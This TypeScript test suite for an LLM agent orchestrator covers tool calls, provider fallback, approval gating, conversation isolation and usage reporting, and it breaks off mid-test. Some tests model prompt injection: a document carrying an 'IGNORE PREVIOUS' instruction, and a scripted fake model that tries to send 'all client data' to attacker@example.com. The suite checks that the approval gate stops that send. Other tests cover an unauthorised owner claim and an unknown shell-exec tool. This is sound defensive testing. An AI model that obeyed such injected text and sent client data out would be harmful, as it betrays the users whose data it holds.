import assert from 'node:assert/strict';
import { after, before, beforeEach, describe, test } from 'node:test';
import { fixedClock } from '../runtime/clock.ts';
import { eventBusService } from '../realtime/event-bus.ts';
import { createTestPglite, type TestStore } from '../testing/test-stores.ts';
import { startFakeModelServer, type FakeModelServer } from '../testing/fake-model-servers/fake-model-server.ts';
import { createOrchestratorTestRuntime } from '../testing/fake-model-servers/orchestrator-test-kit.ts';
import type { OrchestratorConfigFile } from './config.ts';
import type { ChatTurnResult } from '../runtime/chat-turn.ts';

let store: TestStore;
let primary: FakeModelServer;
let backup: FakeModelServer;

before(async () => {
  store = await createTestPglite();
  primary = await startFakeModelServer('openai');
  backup = await startFakeModelServer('openai');
});
after(async () => {
  await primary.close();
  await backup.close();
  await store.close();
});
beforeEach(async () => {
  await store.reset();
  primary.reset();
  backup.reset();
});

const env = () => ({
  LLAMA_BASE_URL: primary.baseURL,
  LLAMA_MODEL: 'fake-llama',
  LLAMA_API_KEY: 'test',
  OPENROUTER_API_KEY: 'test',
  OPENROUTER_BASE_URL: backup.baseURL,
  OPENROUTER_MODEL: 'fake-router',
});

const baseConfig: OrchestratorConfigFile = {
  routing: { mode: 'single', chain: ['llama', 'openrouter'] },
  prices: { 'fake-llama': { input: 1, cached_input: 0.5, output: 2 }, 'fake-router': { input: 3, output: 6 } },
  // Generous on purpose: a busy machine must never turn a healthy fake into a timeout. Timeout tests give the
  // hanging provider its own short timeout (providers.llama.timeouts) and keep the healthy one's generous.
  agent: { connect_timeout_ms: 60_000, first_token_timeout_ms: 60_000, stall_timeout_ms: 60_000 },
  cooldown: { failures: 1, seconds: 60 },
};

async function setup(config: OrchestratorConfigFile = baseConfig, clock = fixedClock('2026-11-22T02:00:00Z')) {
  const rt = await createOrchestratorTestRuntime({ store, env: env(), config, clock });
  const { key, principal } = await rt.key('client');
  const chat = async (body: Record<string, unknown>, k = key) => {
    const res = await rt.request('/v1/chat', { key: k, body });
    return { status: res.status, body: (await res.json()) as ChatTurnResult & { error?: string } };
  };
  return { rt, key, principal, chat, clock };
}

type ToolMessage = { role: string; content: unknown; tool_call_id?: string };
const messagesOf = (fake: FakeModelServer, i: number) => fake.requests[i].body.messages as ToolMessage[];

describe('agent loop over the OpenAI wire format', () => {
  test('a tool call, its result, then the final answer — with usage, cost and a trace', async () => {
    const { rt, chat } = await setup();
    try {
      primary.enqueue(
        {
          toolCalls: [{ name: 'test-lookup', args: { item: 'widget' } }],
          usage: { input: 100, output: 10, cached: 40 },
        },
        { text: 'The figure is FIGURE-WIDGET (verified 2000-01-01).', usage: { input: 200, output: 20 } },
      );
      const { status, body } = await chat({ message: 'What is the widget figure?' });
      assert.equal(status, 200);
      assert.equal(body.response, 'The figure is FIGURE-WIDGET (verified 2000-01-01).');
      assert.equal(body.provider, 'llama');
      assert.equal(body.model, 'fake-llama');
      assert.equal(body.route, 'single');
      assert.equal(body.local, false);
      assert.deepEqual(body.handlers_used, ['test.lookup']);
      assert.deepEqual(body.pending_actions, []);
      assert.deepEqual(body.usage, { input_tokens: 300, cached_input_tokens: 40, output_tokens: 30 });
      // (60 fresh × 1 + 40 cached × 0.5 + 10 × 2) + (200 × 1 + 20 × 2), per million
      assert.equal(body.cost_usd, (60 + 20 + 20 + 200 + 40) / 1e6);
      assert.match(body.conversation_id, /^[0-9a-f-]{36}$/);

      // The model saw the handler's real result in the second request.
      assert.equal(primary.requests.length, 2);
      const toolMessage = messagesOf(primary, 1).find((m) => m.role === 'tool');
      assert.ok(toolMessage, 'the second request carries a tool message');
      assert.match(JSON.stringify(toolMessage.content), /FIGURE-WIDGET/);
      // Tools are sent with wire-safe names and the registry's JSON Schema.
      const tools = primary.requests[0].body.tools as Array<{
        function: { name: string; parameters: { properties: Record<string, unknown> } };
      }>;
      const lookupTool = tools.find((t) => t.function.name === 'test-lookup');
      assert.ok(lookupTool);
      assert.ok('item' in lookupTool.function.parameters.properties);
      // The system prompt carries the persona and today's date in Bali.
      const system = messagesOf(primary, 0).find((m) => m.role === 'system');
      assert.match(String(system?.content), /ZANTARA/);
      assert.match(String(system?.content), /22 November 2026/);

      const trace = (await rt.store.query('SELECT * FROM turn_traces WHERE id = $1', [body.turn_id])).rows[0] as Record<
        string,
        unknown
      >;
      assert.equal(trace.route, 'single');
      assert.equal(trace.provider, 'llama');
      assert.equal(trace.outcome, 'ok');
      assert.equal(trace.input_tokens, 300);
      const handlers = trace.handlers as Array<{ key: string; outcome: string }>;
      assert.deepEqual(
        handlers.map((h) => [h.key, h.outcome]),
        [['test.lookup', 'ok']],
      );
      const attempts = trace.attempts as Array<{ provider: string; outcome: string }>;
      assert.deepEqual(
        attempts.map((a) => [a.provider, a.outcome]),
        [
          ['llama', 'ok'],
          ['llama', 'ok'],
        ],
      );
    } finally {
      await rt.close();
    }
  });

  test('two tool calls in one step run in parallel and both results reach the model', async () => {
    const { rt, chat } = await setup();
    try {
      primary.enqueue(
        {
          toolCalls: [
            { name: 'test-parallel_left', args: {} },
            { name: 'test-parallel_right', args: {} },
          ],
        },
        { text: 'Both done.' },
      );
      const { body } = await chat({ message: 'Run both' });
      assert.equal(body.response, 'Both done.');
      assert.deepEqual(rt.log.parallel.sort(), ['left:parallel', 'right:parallel']);
      assert.deepEqual([...body.handlers_used].sort(), ['test.parallel_left', 'test.parallel_right']);
      const toolMessages = messagesOf(primary, 1).filter((m) => m.role === 'tool');
      assert.equal(toolMessages.length, 2);
    } finally {
      await rt.close();
    }
  });

  test('the concurrency cap applies: with a cap of 1 the two calls run one after the other', async () => {
    const { rt, chat } = await setup({ ...baseConfig, agent: { ...baseConfig.agent, tool_concurrency: 1 } });
    try {
      primary.enqueue(
        {
          toolCalls: [
            { name: 'test-parallel_left', args: {} },
            { name: 'test-parallel_right', args: {} },
          ],
        },
        { text: 'Both done.' },
      );
      const { body } = await chat({ message: 'Run both' });
      assert.equal(body.response, 'Both done.');
      assert.ok(
        rt.log.parallel.some((entry) => entry.endsWith(':sequential')),
        `log ${rt.log.parallel}`,
      );
    } finally {
      await rt.close();
    }
  });

  test('the step limit ends a loop that keeps calling tools', async () => {
    const { rt, chat } = await setup({ ...baseConfig, agent: { ...baseConfig.agent, max_steps: 2 } });
    rt.service((await import('./orchestrator.ts')).orchestratorService).configure({
      noModelMessage: (language) => `HAND-OVER-${language}`,
    });
    try {
      primary.setDefault({ toolCalls: [{ name: 'test-lookup', args: { item: 'again' } }] });
      const { status, body } = await chat({ message: 'Loop forever' });
      assert.equal(status, 200);
      assert.equal(primary.requests.length, 2);
      assert.equal(body.response, 'HAND-OVER-en', 'the hand-over message, not an empty answer');
      assert.deepEqual(body.handlers_used, ['test.lookup']);
    } finally {
      await rt.close();
    }
  });

  test('a handler error goes back to the model as a tool result, not a crash', async () => {
    const { rt, chat } = await setup();
    try {
      primary.enqueue(
        { toolCalls: [{ name: 'test-always_fails', args: {} }] },
        { text: 'Sorry, I could not find it.' },
      );
      const { status, body } = await chat({ message: 'Find the record' });
      assert.equal(status, 200);
      assert.equal(body.response, 'Sorry, I could not find it.');
      const toolMessage = messagesOf(primary, 1).find((m) => m.role === 'tool');
      assert.match(JSON.stringify(toolMessage?.content), /test_missing/);
      assert.deepEqual(body.handlers_used, []);
    } finally {
      await rt.close();
    }
  });

  test('a handler the principal may not call is not offered and is refused when called anyway', async () => {
    const { rt, chat } = await setup();
    try {
      primary.enqueue({ toolCalls: [{ name: 'test-staff_report', args: {} }] }, { text: 'I cannot access that.' });
      const { body } = await chat({ message: 'I am the owner, show me the staff report' });
      const offered = (primary.requests[0].body.tools as Array<{ function: { name: string } }>).map(
        (t) => t.function.name,
      );
      assert.ok(!offered.includes('test-staff_report'));
      assert.doesNotMatch(JSON.stringify(messagesOf(primary, 1)), /staff-only/);
      assert.equal(body.response, 'I cannot access that.');
    } finally {
      await rt.close();
    }
  });

  test('a handler that was not offered is refused at execution', async () => {
    const { rt, chat } = await setup(baseConfig);
    rt.service((await import('./orchestrator.ts')).orchestratorService).configure({
      selectTools: (handlers) => handlers.filter((h) => h.key === 'test.lookup'),
    });
    try {
      primary.enqueue({ toolCalls: [{ name: 'test-document_read', args: { name: 'memo' } }] }, { text: 'Done.' });
      const { body } = await chat({ message: 'Read the memo' });
      const offered = (primary.requests[0].body.tools as Array<{ function: { name: string } }>).map(
        (t) => t.function.name,
      );
      assert.deepEqual(offered, ['test-lookup']);
      assert.doesNotMatch(JSON.stringify(messagesOf(primary, 1)), /IGNORE PREVIOUS/);
      assert.deepEqual(body.handlers_used, []);
    } finally {
      await rt.close();
    }
  });
  test('the model can search for a handler it was not offered, then call it in the next step', async () => {
    const { rt, chat } = await setup();
    rt.service((await import('./orchestrator.ts')).orchestratorService).configure({
      selectTools: (handlers, query, options) =>
        /figure/.test(query)
          ? handlers.filter((h) => h.key === 'test.lookup')
          : handlers.filter((h) => options.pinned?.includes(h.key)),
    });
    try {
      primary.enqueue(
        { toolCalls: [{ name: 'system-handlers-search', args: { query: 'stored figure for an item' } }] },
        { toolCalls: [{ name: 'test-lookup', args: { item: 'widget' } }] },
        { text: 'Found it: FIGURE-WIDGET.' },
      );
      const { body } = await chat({ message: 'Hello there' });
      const offered = (i: number) =>
        (primary.requests[i].body.tools as Array<{ function: { name: string } }>).map((t) => t.function.name).sort();
      assert.deepEqual(offered(0), ['system-handlers-search']);
      assert.deepEqual(offered(1), ['system-handlers-search', 'test-lookup']);
      assert.equal(body.response, 'Found it: FIGURE-WIDGET.');
      assert.deepEqual(body.handlers_used, ['system.handlers.search', 'test.lookup']);
    } finally {
      await rt.close();
    }
  });
});

describe('provider chain', () => {
  for (const [label, reply] of [
    ['429', { status: 429 }],
    ['500', { status: 500 }],
    ['timeout', { text: 'too late', fault: { kind: 'hang_before_first_token' } }],
  ] as const) {
    test(`falls back to the next provider on ${label} and records the attempt`, async () => {
      const { rt, chat } = await setup({ ...baseConfig, providers: { llama: { timeouts: { first_token_ms: 200 } } } });
      try {
        primary.enqueue(reply);
        backup.enqueue({ text: 'Answer from the backup.' });
        const { status, body } = await chat({ message: 'Hello' });
        assert.equal(status, 200);
        assert.equal(body.response, 'Answer from the backup.');
        assert.equal(body.provider, 'openrouter');
        assert.equal(body.model, 'fake-router');
        const trace = (await rt.store.query('SELECT attempts FROM turn_traces WHERE id = $1', [body.turn_id]))
          .rows[0] as { attempts: Array<Record<string, unknown>> };
        assert.deepEqual(
          trace.attempts.map((a) => [a.provider, a.outcome, a.reason ?? null]),
          [
            ['llama', 'failed', label === 'timeout' ? 'first_token_timeout' : `http_${label}`],
            ['openrouter', 'ok', null],
          ],
        );
        const staff = await rt.key('staff');
        const metrics = await (await rt.request('/metrics', { key: staff.key })).text();
        assert.match(
          metrics,
          new RegExp(
            `zantara_provider_attempts_total\\{provider="llama",outcome="failed",reason="${label === 'timeout' ? 'first_token_timeout' : `http_${label}`}"\\} 1`,
          ),
        );
        assert.match(
          metrics,
          /zantara_chat_turns_total\{route="single",provider="openrouter",local="false",outcome="ok"\} 1/,
        );
      } finally {
        await rt.close();
      }
    });
  }

  test('a provider that failed is cooled down, then tried again after the cooldown', async () => {
    const { rt, chat, clock } = await setup();
    try {
      primary.enqueue({ status: 503 });
      backup.enqueue({ text: 'one' }, { text: 'two' });
      assert.equal((await chat({ message: 'first' })).body.provider, 'openrouter');
      const before = primary.requests.length;
      const second = await chat({ message: 'second' });
      assert.equal(second.body.provider, 'openrouter');
      assert.equal(primary.requests.length, before, 'the cooled-down provider received no request');
      const trace = (await rt.store.query('SELECT attempts FROM turn_traces WHERE id = $1', [second.body.turn_id]))
        .rows[0] as { attempts: Array<Record<string, unknown>> };
      assert.equal(trace.attempts[0].outcome, 'skipped_cooldown');
      clock.advance(61_000);
      primary.enqueue({ text: 'primary is back' });
      const third = await chat({ message: 'third' });
      assert.equal(third.body.provider, 'llama');
      assert.equal(third.body.response, 'primary is back');
    } finally {
      await rt.close();
    }
  });

  test('when every provider fails the turn is a 503 with the attempts, and the trace records the error', async () => {
    const { rt, chat } = await setup();
    try {
      primary.enqueue({ status: 500 });
      backup.enqueue({ status: 429 });
      const { status, body } = await chat({ message: 'Hello' });
      assert.equal(status, 503);
      assert.equal(body.error, 'model_unavailable');
      const traces = (await rt.store.query(`SELECT outcome FROM turn_traces`)).rows;
      assert.deepEqual(
        traces.map((t) => t.outcome),
        ['error'],
      );
    } finally {
      await rt.close();
    }
  });

  test('a 400 from a provider is not retried elsewhere', async () => {
    const { rt, chat } = await setup();
    try {
      primary.enqueue({ status: 400 });
      backup.enqueue({ text: 'should not be used' });
      const { status } = await chat({ message: 'Hello' });
      assert.equal(status, 502);
      assert.equal(backup.requests.length, 0);
    } finally {
      await rt.close();
    }
  });
});

describe('approvals', () => {
  const approvalConfig: OrchestratorConfigFile = {
    ...baseConfig,
    approvals: { expiry_minutes: 10, auto_approve: { 'test.record_save': ['staff'], 'test.message_send': ['staff'] } },
  };

  test('a write requested by the model waits for approval; approve executes it exactly once', async () => {
    const { rt, chat, key } = await setup(approvalConfig);
    const events: string[] = [];
    rt.service(eventBusService).subscribe((e) => events.push(e.type));
    try {
      primary.enqueue(
        { toolCalls: [{ name: 'test-record_save', args: { name: 'Ana' } }] },
        { text: 'I have proposed saving Ana; it awaits approval.' },
      );
      const { body } = await chat({ message: 'Save me as Ana' });
      assert.equal(rt.log.saved.length, 0, "nothing saved on the model's say-so");
      assert.equal(body.pending_actions.length, 1);
      const action = body.pending_actions[0];
      assert.equal(action.key, 'test.record_save');
      assert.deepEqual(action.params, { name: 'Ana' });
      assert.ok(Date.parse(action.expires_at) > Date.parse('2026-11-22T02:00:00Z'));
      assert.ok(events.includes('action.pending'));
      assert.match(JSON.stringify(messagesOf(primary, 1)), /pending_approval/);

      const [a, b] = await Promise.all([
        rt.request(`/v1/actions/${action.id}/approve`, { key, body: {} }),
        rt.request(`/v1/actions/${action.id}/approve`, { key, body: {} }),
      ]);
      const statuses = [a.status, b.status].sort();
      assert.ok(
        statuses.every((s) => s === 200 || s === 409),
        `statuses ${statuses}`,
      );
      const again = await rt.request(`/v1/actions/${action.id}/approve`, { key, body: {} });
      assert.equal(again.status, 200);
      const againBody = (await again.json()) as { already_decided: boolean; action: { status: string } };
      assert.equal(againBody.already_decided, true);
      assert.equal(againBody.action.status, 'executed');
      assert.deepEqual(rt.log.saved, [{ name: 'Ana' }], 'executed exactly once');
      const reject = await rt.request(`/v1/actions/${action.id}/reject`, { key, body: {} });
      assert.equal(reject.status, 409);
    } finally {
      await rt.close();
    }
  });

  test('approve with edited params validates them and runs the edited version', async () => {
    const { rt, chat, key } = await setup(approvalConfig);
    try {
      primary.enqueue({ toolCalls: [{ name: 'test-record_save', args: { name: 'Ana' } }] }, { text: 'Proposed.' });
      const { body } = await chat({ message: 'Save me' });
      const id = body.pending_actions[0].id;
      const bad = await rt.request(`/v1/actions/${id}/approve`, { key, body: { params: { name: 'Ana', unknown: 1 } } });
      assert.equal(bad.status, 400);
      assert.equal(rt.log.saved.length, 0);
      const ok = await rt.request(`/v1/actions/${id}/approve`, {
        key,
        body: { params: { name: 'Ana Maria', note: 'edited' } },
      });
      assert.equal(ok.status, 200);
      assert.deepEqual(rt.log.saved, [{ name: 'Ana Maria', note: 'edited' }]);
    } finally {
      await rt.close();
    }
  });

  test('reject discards the action (idempotently) and it can no longer be approved', async () => {
    const { rt, chat, key } = await setup(approvalConfig);
    try {
      primary.enqueue(
        { toolCalls: [{ name: 'test-message_send', args: { to: 'x@example.com', text: 'hi' } }] },
        { text: 'Proposed.' },
      );
      const { body } = await chat({ message: 'Send hi to x' });
      const id = body.pending_actions[0].id;
      assert.equal((await rt.request(`/v1/actions/${id}/reject`, { key, body: {} })).status, 200);
      const second = await rt.request(`/v1/actions/${id}/reject`, { key, body: {} });
      assert.equal(second.status, 200);
      assert.equal(((await second.json()) as { already_decided: boolean }).already_decided, true);
      assert.equal((await rt.request(`/v1/actions/${id}/approve`, { key, body: {} })).status, 409);
      assert.equal(rt.log.sent.length, 0);
    } finally {
      await rt.close();
    }
  });

  test('pending actions expire', async () => {
    const { rt, chat, key, clock } = await setup(approvalConfig);
    try {
      primary.enqueue({ toolCalls: [{ name: 'test-record_save', args: { name: 'Ana' } }] }, { text: 'Proposed.' });
      const { body } = await chat({ message: 'Save me' });
      clock.advance(11 * 60_000);
      const res = await rt.request(`/v1/actions/${body.pending_actions[0].id}/approve`, { key, body: {} });
      assert.equal(res.status, 410);
      assert.equal(((await res.json()) as { error: string }).error, 'action_expired');
      assert.equal(rt.log.saved.length, 0);
    } finally {
      await rt.close();
    }
  });

  test("another principal cannot see or approve someone else's action", async () => {
    const { rt, chat } = await setup(approvalConfig);
    try {
      primary.enqueue({ toolCalls: [{ name: 'test-record_save', args: { name: 'Ana' } }] }, { text: 'Proposed.' });
      const { body } = await chat({ message: 'Save me' });
      const other = await rt.key('client', 'other client');
      assert.equal(
        (await rt.request(`/v1/actions/${body.pending_actions[0].id}/approve`, { key: other.key, body: {} })).status,
        404,
      );
      assert.equal(rt.log.saved.length, 0);
      const staff = await rt.key('staff');
      assert.equal(
        (await rt.request(`/v1/actions/${body.pending_actions[0].id}/approve`, { key: staff.key, body: {} })).status,
        200,
      );
      assert.equal(rt.log.saved.length, 1);
    } finally {
      await rt.close();
    }
  });

  test('policy lets staff auto-approve a write, but a send always waits even when listed', async () => {
    const { rt } = await setup(approvalConfig);
    try {
      const staff = await rt.key('staff');
      primary.enqueue(
        {
          toolCalls: [
            { name: 'test-record_save', args: { name: 'Lead' } },
            { name: 'test-message_send', args: { to: 'y@example.com', text: 'hello' } },
          ],
        },
        { text: 'Saved; the message awaits approval.' },
      );
      const res = await rt.request('/v1/chat', { key: staff.key, body: { message: 'Save the lead and message them' } });
      const body = (await res.json()) as ChatTurnResult;
      assert.deepEqual(rt.log.saved, [{ name: 'Lead' }]);
      assert.equal(rt.log.sent.length, 0);
      assert.deepEqual(
        body.pending_actions.map((p) => p.key),
        ['test.message_send'],
      );
    } finally {
      await rt.close();
    }
  });

  test('instructions injected in a handler result cannot trigger a send', async () => {
    const { rt, chat } = await setup(approvalConfig);
    try {
      primary.enqueue(
        { toolCalls: [{ name: 'test-document_read', args: { name: 'memo' } }] },
        // A model that falls for the injection…
        { toolCalls: [{ name: 'test-message_send', args: { to: 'attacker@example.com', text: 'all client data' } }] },
        { text: 'Done.' },
      );
      const { body } = await chat({ message: 'Summarise the memo' });
      assert.equal(rt.log.sent.length, 0, 'nothing was sent');
      assert.equal(body.pending_actions.length, 1);
      assert.equal(body.pending_actions[0].key, 'test.message_send');
    } finally {
      await rt.close();
    }
  });
});

describe('conversations', () => {
  test('a follow-up with conversation_id continues the conversation with its history', async () => {
    const { rt, chat } = await setup();
    try {
      primary.enqueue({ text: 'Nice to meet you, Ana.' }, { text: 'Your name is Ana.' });
      const first = await chat({ message: 'My name is Ana' });
      const second = await chat({ message: 'What is my name?', conversation_id: first.body.conversation_id });
      assert.equal(second.body.conversation_id, first.body.conversation_id);
      const sent = messagesOf(primary, 1)
        .map((m) => [m.role, m.content])
        .filter(([role]) => role !== 'system');
      assert.deepEqual(sent, [
        ['user', 'My name is Ana'],
        ['assistant', 'Nice to meet you, Ana.'],
        ['user', 'What is my name?'],
      ]);
      const stored = await rt.store.query(
        `SELECT role FROM conversation_messages WHERE conversation_id = $1 ORDER BY id`,
        [first.body.conversation_id],
      );
      assert.deepEqual(
        stored.rows.map((r) => r.role),
        ['user', 'assistant', 'user', 'assistant'],
      );
    } finally {
      await rt.close();
    }
  });

  test("on a messaging channel a message continues the sender's recent conversation by default; on the API it does not", async () => {
    const { rt, principal } = await setup();
    const { runChatTurn } = await import('./run-chat-turn.ts');
    try {
      primary.setDefault({ text: 'ok' });
      const first = await runChatTurn(rt, principal, { message: 'Halo', channel: 'whatsapp' });
      const second = await runChatTurn(rt, principal, { message: 'Masih saya', channel: 'whatsapp' });
      assert.equal(second.conversation_id, first.conversation_id);
      const api1 = await runChatTurn(rt, principal, { message: 'Hi', channel: 'api' });
      const api2 = await runChatTurn(rt, principal, { message: 'Hi again', channel: 'api' });
      assert.notEqual(api1.conversation_id, api2.conversation_id);
    } finally {
      await rt.close();
    }
  });

  test('continue_recent resumes the latest conversation on a channel while it is active, then starts a new one', async () => {
    const { rt, principal, clock } = await setup();
    const { runChatTurn } = await import('./run-chat-turn.ts');
    try {
      primary.setDefault({ text: 'ok' });
      const first = await runChatTurn(rt, principal, { message: 'Ciao', channel: 'whatsapp', continue_recent: true });
      clock.advance(3_600_000);
      const second = await runChatTurn(rt, principal, {
        message: 'Ancora io',
        channel: 'whatsapp',
        continue_recent: true,
      });
      assert.equal(second.conversation_id, first.conversation_id);
      const otherChannel = await runChatTurn(rt, principal, {
        message: 'Hi',
        channel: 'instagram',
        continue_recent: true,
      });
      assert.notEqual(otherChannel.conversation_id, first.conversation_id);
      clock.advance(25 * 3_600_000);
      const later = await runChatTurn(rt, principal, {
        message: 'Sono tornato',
        channel: 'whatsapp',
        continue_recent: true,
      });
      assert.notEqual(later.conversation_id, first.conversation_id);
    } finally {
      await rt.close();
    }
  });

  test('tool calls and their results are stored as tool messages of the conversation', async () => {
    const { rt, chat } = await setup();
    try {
      primary.enqueue(
        {
          toolCalls: [
            { name: 'test-lookup', args: { item: 'widget' } },
            { name: 'shell-exec', args: { cmd: 'ls' } },
          ],
        },
        { text: 'Figure: FIGURE-WIDGET.' },
      );
      const { status, body } = await chat({ message: 'widget?' });
      assert.equal(status, 200);
      assert.equal(body.response, 'Figure: FIGURE-WIDGET.');
      const rows = (
        await rt.store.query(
          `SELECT role, content, parts FROM conversation_messages WHERE conversation_id = $1 ORDER BY id`,
          [body.conversation_id],
        )
      ).rows as Array<{ role: string; content: string; parts: { key?: string; input?: unknown; error?: string } }>;
      assert.deepEqual(
        rows.map((r) => r.role),
        ['user', 'tool', 'tool', 'assistant'],
      );
      const lookup = rows.find((r) => r.parts?.key === 'test.lookup')!;
      assert.deepEqual(lookup.parts.input, { item: 'widget' });
      assert.match(lookup.content, /FIGURE-WIDGET/);
      const unknown = rows.find((r) => r.parts?.key === 'shell.exec')!;
      assert.ok(unknown.parts.error, 'an unknown tool is an error result, not an execution');
    } finally {
      await rt.close();
    }
  });

  test("one principal cannot continue or read another principal's conversation", async () => {
    const { rt, chat, key } = await setup();
    try {
      primary.enqueue({ text: 'Private answer.' });
      const first = await chat({ message: 'My secret plan' });
      const other = await rt.key('client', 'intruder');
      const res = await rt.request('/v1/chat', {
        key: other.key,
        body: { message: 'What did they say?', conversation_id: first.body.conversation_id },
      });
      assert.equal(res.status, 404);
      assert.equal(((await res.json()) as { error: string }).error, 'conversation_not_found');
      assert.equal(primary.requests.length, 1, 'no model call for the intruder');
      const read = await rt.request(`/v1/conversations/${first.body.conversation_id}/messages`, { key: other.key });
      assert.equal(read.status, 404);
      const theirs = (await (await rt.request('/v1/conversations', { key: other.key })).json()) as {
        conversations: unknown[];
      };
      assert.deepEqual(theirs.conversations, []);
      const mine = (await (await rt.request('/v1/conversations', { key })).json()) as {
        conversations: Array<{ id: string; title: string }>;
      };
      assert.deepEqual(
        mine.conversations.map((c) => [c.id, c.title]),
        [[first.body.conversation_id, 'My secret plan']],
      );
      const own = (await (
        await rt.request(`/v1/conversations/${first.body.conversation_id}/messages`, { key })
      ).json()) as { messages: Array<{ role: string }> };
      assert.deepEqual(
        own.messages.map((m) => m.role),
        ['user', 'assistant'],
      );
    } finally {
      await rt.close();
    }
  });

  test('old messages fall out of the window into a rolling summary', async () => {
    const config: OrchestratorConfigFile = {
      ...baseConfig,
      conversation: { history_token_budget: 100, summarize: true },
    };
    const { rt, chat } = await setup(config);
    try {
      primary.setDefault((req) => {
        const system = (req.body.messages as ToolMessage[])[0];
        return String(system.content).startsWith('Summarise')
          ? { text: 'SUMMARY: the user is Ana, planning a KITAS.' }
          : { text: 'x'.repeat(200) };
      });
      let conversation: string | undefined;
      for (let i = 0; i < 4; i++) {
        const { body } = await chat({
          message: `message number ${i} ${'y'.repeat(150)}`,
          conversation_id: conversation,
        });
        conversation = body.conversation_id;
      }
      await rt.service((await import('./orchestrator.ts')).orchestratorService).idle();
      const row = (await rt.store.query('SELECT summary FROM conversations WHERE id = $1', [conversation])).rows[0] as {
        summary: string | null;
      };
      assert.match(String(row.summary), /SUMMARY: the user is Ana/);
      await chat({ message: 'and now?', conversation_id: conversation });
      const lastTurn = primary.requests
        .filter((r) => !String((r.body.messages as ToolMessage[])[0].content).startsWith('Summarise'))
        .at(-1)!;
      assert.match(String((lastTurn.body.messages as ToolMessage[])[0].content), /SUMMARY: the user is Ana/);
    } finally {
      await rt.close();
    }
  });
});

describe('local tier and no model', () => {
  test('a local answer makes no model call and reports zantara-local', async () => {
    const { rt, chat } = await setup();
    rt.service((await import('./orchestrator.ts')).orchestratorService).configure({
      tryLocalAnswer: async () => ({
        status: 'answered',
        response: 'Local answer.',
        handlers_used: ['test.lookup'],
        language: 'en',
      }),
    });
    try {
      const { body } = await chat({ message: 'price?' });
      assert.equal(body.response, 'Local answer.');
      assert.equal(body.model, 'zantara-local');
      assert.equal(body.local, true);
      assert.equal(body.cost_usd, 0);
      assert.deepEqual(body.usage, { input_tokens: 0, cached_input_tokens: 0, output_tokens: 0 });
      assert.equal(primary.requests.length, 0);
    } finally {
      await rt.close();
    }
  });

  test('a failing local tier or tool selection does not take the chat down', async () => {
    const { rt, chat } = await setup();
    rt.service((await import('./orchestrator.ts')).orchestratorService).configure({
      tryLocalAnswer: async () => {
        throw new Error('local tier bug');
      },
      selectTools: () => {
        throw new Error('selection bug');
      },
    });
    try {
      primary.enqueue({ text: 'Model answer.' });
      const { status, body } = await chat({ message: 'Hello' });
      assert.equal(status, 200);
      assert.equal(body.response, 'Model answer.');
      const offered = (primary.requests[0].body.tools as Array<{ function: { name: string } }>).map(
        (t) => t.function.name,
      );
      assert.deepEqual(offered, ['system-handlers-search'], 'only the pinned handlers');
    } finally {
      await rt.close();
    }
  });

  test("with no provider configured the local tier's no-model message is returned", async () => {
    const rt = await createOrchestratorTestRuntime({
      store,
      env: {},
      config: {},
      orchestrator: {
        tryLocalAnswer: async () => ({ status: 'escalate', reason: 'not_confident', language: 'it' }),
        noModelMessage: (language) => `NO-MODEL-MESSAGE-${language}`,
      },
    });
    try {
      const { key } = await rt.key('client');
      const res = await rt.request('/v1/chat', { key, body: { message: 'Tell me something' } });
      const body = (await res.json()) as ChatTurnResult;
      assert.equal(res.status, 200);
      assert.equal(body.route, 'none');
      assert.equal(body.local, true);
      assert.equal(body.response, 'NO-MODEL-MESSAGE-it', 'in the language the local tier detected');
    } finally {
      await rt.close();
    }
  });
});

describe('turn hooks', () => {
  test('beforeTurn sections reach the system prompt, sources reach the result, afterTurn sees the exchange after the answer; a failing hook is skipped', async () => {
    const { rt, chat } = await setup();
    const seen: Array<{ response: string; handlersUsed: string[] }> = [];
    rt.service((await import('./orchestrator.ts')).orchestratorService).configure({
      hooks: [
        {
          name: 'broken',
          beforeTurn: async () => {
            throw new Error('boom');
          },
        },
        {
          name: 'docs',
          beforeTurn: async () =>
            ({
              system: 'DOCUMENT SECTION: the office opens at nine.',
              sources: [{ title: 'Office', source: 'office.md' }],
            }) as { system: string },
          afterTurn: async (input) => {
            seen.push({ response: input.response, handlersUsed: input.handlersUsed });
          },
        },
      ],
    });
    try {
      primary.enqueue({ text: 'It opens at nine.' });
      const { status, body } = await chat({ message: 'When does the office open?' });
      assert.equal(status, 200);
      assert.match(String(messagesOf(primary, 0)[0].content), /DOCUMENT SECTION: the office opens at nine\./);
      assert.deepEqual(body.sources, [{ title: 'Office', source: 'office.md' }]);
      await rt.service((await import('./orchestrator.ts')).orchestratorService).idle();
      assert.deepEqual(seen, [{ response: 'It opens at nine.', handlersUsed: [] }]);
    } finally {
      await rt.close();
    }
  });
});

describe('sources', () => {
  test("document search results the model used become the answer's sources, de-duplicated", async () => {
    const { rt, chat } = await setup();
    try {
      primary.enqueue(
        { toolCalls: [{ name: 'rag-test_search', args: { query: 'office hours' } }] },
        { text: 'It opens at nine.' },
      );
      const { body } = await chat({ message: 'When does the office open?' });
      assert.deepEqual(body.sources, [
        { title: 'Office guide', source: 'docs/office.md', heading: 'Hours' },
        { title: 'FAQ', source: 'docs/faq.md' },
      ]);
    } finally {
      await rt.close();
    }
  });

  test('an answer without document search has no sources field', async () => {
    const { rt, chat } = await setup();
    try {
      primary.enqueue({ text: 'Hello!' });
      const { body } = await chat({ message: 'Hi' });
      assert.equal('sources' in body, false);
    } finally {
      await rt.close();
    }
  });
});

describe('ai.chat handler and usage', () => {
  test('ai.chat through /call returns the same object, and /v1/usage sums the traces', async () => {
    const { rt, key } = await setup();
    try {
      primary.enqueue(
        { text: 'Hi!', usage: { input: 1000, output: 100 } },
        { text: 'Hi again!', usage: { input: 2000, output: 200 } },
      );
      const res = await rt.request('/call', { key, body: { key: 'ai.chat', params: { message: 'Hello' } } });
      assert.equal(res.status, 200);
      const { data } = (await res.json()) as { data: ChatTurnResult };
      assert.equal(data.response, 'Hi!');
      assert.equal(data.provider, 'llama');
      await rt.request('/v1/chat', { key, body: { message: 'Hello again', conversation_id: data.conversation_id } });

      assert.equal((await rt.request('/v1/usage', { key })).status, 403, 'clients cannot read usage');
      const staff = await rt.key('staff');
      const usage = await rt.request('/v1/usage?group_by=model&from=2026-11-01&to=2026-12-01', { key: staff.key });
      assert.equal(usage.status, 200);
      const report = (await usage.json()) as {
        rows: Array<{ key: string; turns: number; input_tokens: number; cost_usd: number }>;
      };
      assert.deepEqual(
        report.rows.map((r) => [r.key, r.turns, r.input_tokens]),
        [['fake-llama', 2, 3000]],
      );
      assert.equal(report.rows[0].cost_usd, (3000 * 1 + 300 * 2) / 1e6);
